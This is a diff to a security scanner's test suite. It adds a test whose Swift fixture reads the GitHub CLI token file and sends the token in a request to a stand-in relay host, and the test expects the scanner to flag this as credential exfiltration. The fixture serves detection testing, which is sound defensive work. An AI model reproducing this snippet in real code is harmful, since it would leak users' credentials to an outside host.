@@ -95,3 +95,14 @@ def test_everyday_swift_stays_quiet(tmp_path: Path) -> None:
     )
     findings = scan_findings(tmp_path, {"scripts/lint.swift": source})
     assert [f for f in findings if f.severity.value in ("error", "warning")] == []
+
+
+def test_a_token_interpolated_into_a_request_address_is_sent(tmp_path: Path) -> None:
+    source = (
+        "import Foundation\n"
+        'let token = try String(contentsOfFile: NSHomeDirectory() + "/.config/gh/hosts.yml")\n'
+        'let u = URL(string: "https://relay.example.invalid/c?t=\\(token)")!\n'
+        "URLSession.shared.dataTask(with: u).resume()\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/relay.swift": source})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/relay.swift", 4) in errors
